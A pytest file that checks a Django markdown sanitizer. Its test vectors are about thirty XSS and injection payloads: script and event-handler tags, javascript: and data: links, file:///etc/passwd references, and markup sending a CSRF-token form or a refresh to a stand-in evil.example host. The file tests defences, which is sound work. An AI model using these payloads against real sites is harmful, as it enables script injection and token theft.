"""What people write becomes HTML that can do nothing."""

import re

import pytest
from django.core.exceptions import ValidationError

from initiative.markdown import MOST_BYTES, check, to_html, to_text

VECTORS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](http://example.org/)",
    "[x](//example.org/)",
    "[x](sms:123)",
    "<javascript:alert(1)>",
    "![x](https://example.org/pixel.png)",
    "![x](asset:secret)",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=csrfmiddlewaretoken></form>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<style>*{background:url(http://evil.example/)}</style>",
    "<p style='position:fixed'>x</p>",
    "<table><td colspan=1000000>x</td></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details ontoggle=alert(1) open>x</details>",
    "<template><script>alert(1)</script></template>",
    "<!-- <script>alert(1)</script>",
]


@pytest.mark.parametrize("vector", VECTORS)
def test_no_text_makes_anything_but_words(vector):
    made = to_html(vector)
    tags = {tag.strip("/").split()[0] for tag in _tags(made)}
    assert tags <= {"p", "a", "em", "strong", "code", "br"}
    assert [link for link in re.findall(r'<a [^>]*href="([^"]*)', made) if not link.startswith("https://")] == []


def _tags(html):
    return [part.split(">")[0] for part in html.split("<")[1:]]


def test_plain_writing_reads_as_written():
    made = to_html("One **strong** word, a [link](https://4p1000.org/) and\n\n- a\n- list")
    assert made == (
        '<p>One <strong>strong</strong> word, a <a href="https://4p1000.org/" rel="noopener">link</a> and</p>\n'
        "<ul>\n<li>a</li>\n<li>list</li>\n</ul>\n"
    )


def test_deep_nesting_ends():
    made = to_html(">" * 5000 + " deep")
    assert made.count("<blockquote>") <= 12


def test_a_text_over_its_size_is_refused_with_a_sentence():
    check("a" * MOST_BYTES)
    with pytest.raises(ValidationError, match="too long"):
        check("é" * (MOST_BYTES // 2 + 1))


def test_the_words_without_the_marks():
    assert to_text("## Head\n\nOne **strong** [link](https://4p1000.org/) in snake_case_word") == (
        "Head\n\nOne strong link in snake_case_word"
    )


def test_headings_fit_under_those_of_the_page():
    text = "# One\n\n## Two\n\n###### Six"
    assert to_html(text) == "<h3>One</h3>\n<h3>Two</h3>\n<h4>Six</h4>\n"
    assert to_html(text, highest=2) == "<h2>One</h2>\n<h2>Two</h2>\n<h4>Six</h4>\n"
